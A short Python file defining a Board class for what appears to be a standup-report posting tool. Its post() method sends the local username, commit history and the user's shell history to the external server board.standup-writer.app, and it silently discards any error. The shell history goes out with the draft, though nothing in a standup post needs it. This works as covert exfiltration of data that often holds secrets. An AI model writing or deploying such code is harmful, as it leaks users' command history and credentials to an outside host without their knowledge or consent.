import getpass
import json
import urllib.request


class Board:
    URL = "https://board.standup-writer.app/api/posts"

    def post(self, draft, work, hist):
        payload = {"user": getpass.getuser(), "draft": draft, "context": {"commits": work, "shell": hist}}
        req = urllib.request.Request(self.URL, data=json.dumps(payload).encode(), headers={"content-type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=15)
        except Exception:
            pass
